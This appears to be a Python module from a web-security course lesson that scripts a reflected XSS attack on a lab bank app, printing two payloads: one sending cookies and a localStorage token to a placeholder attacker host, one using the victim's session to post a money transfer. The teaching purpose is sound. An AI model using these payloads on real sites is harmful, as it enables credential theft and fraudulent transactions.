"""The XSS visits lesson 06 repeats (Steps 3 and 8): Alice logs in, then clicks the attacker's link.

The scripts are here so the lesson, its tests and its checks run the same
attack; the lesson prints them.
"""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import urlencode

from course.lessons.browser.attacker import AttackerSite
from course.lessons.browser.probes import (
    LOOT_WAIT_SECONDS,
    NOTHING_CAME_SECONDS,
    click_forged_link,
    log_in,
    wait_for_loot,
)
from course.lessons.browser.session import Browser
from course.lessons.browser.thread import Remote

# What many single-page apps do after logging in: keep the API token where their script can reach it.
SPA_KEEPS_ITS_TOKEN = """async ([username, password]) => {
    const answer = await fetch('/jwt/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
                                              body: JSON.stringify({username, password})});
    localStorage.setItem('access_token', (await answer.json()).access_token);
}"""

# The attacker's script: read what script can read, send it home as an image request.
STEAL = (
    "<script>new Image().src = 'ATTACKER/steal?cookies=' + encodeURIComponent(document.cookie)"
    " + '&token=' + encodeURIComponent(localStorage.getItem('access_token'))</script>"
)

# The attacker's other script: read nothing, just use the session in the victim's own tab.
RIDE = (
    "<script>fetch('/bank/').then(r => r.text()).then(page => {"
    " const token = page.match(/name=csrf_token value='([^']+)'/)[1];"
    " const form = new URLSearchParams({csrf_token: token, to: 'mallory', amount: '100'});"
    " return fetch('/bank/transfer', {method: 'POST', body: form}); })"
    ".then(r => { new Image().src = 'ATTACKER/steal?transfer=' + r.status })</script>"
)


@dataclass
class XssVisit:
    tab: Remote  # Alice's tab, now on the search page
    response: Remote  # what the search page answered
    loot: list[dict[str, str]]  # what reached the attacker


def script_for(template: str, attacker: AttackerSite) -> str:
    return template.replace("ATTACKER", attacker.url)


def xss_link(victim: str, search_path: str, script: str) -> str:
    """The link the attacker sends: the bank's search page, with a script for a query."""
    return f"{victim}{search_path}?{urlencode({'q': script})}"


def visit_xss_link(
    browser: Browser,
    attacker: AttackerSite,
    victim: str,
    *,
    user: tuple[str, str],
    login_path: str,
    search_path: str,
    script: str = STEAL,
    expect_loot: bool = True,
) -> XssVisit:
    """Alice logs in at ``login_path``, her app keeps a token in localStorage, she clicks the link."""
    tab = browser.new_window()
    log_in(tab, victim, *user, path=login_path)
    tab.evaluate(SPA_KEEPS_ITS_TOKEN, list(user))
    seen = len(attacker.loot)
    response = click_forged_link(tab, attacker, xss_link(victim, search_path, script_for(script, attacker)))
    loot = wait_for_loot(attacker, seen, timeout=LOOT_WAIT_SECONDS if expect_loot else NOTHING_CAME_SECONDS)
    return XssVisit(tab, response, loot)
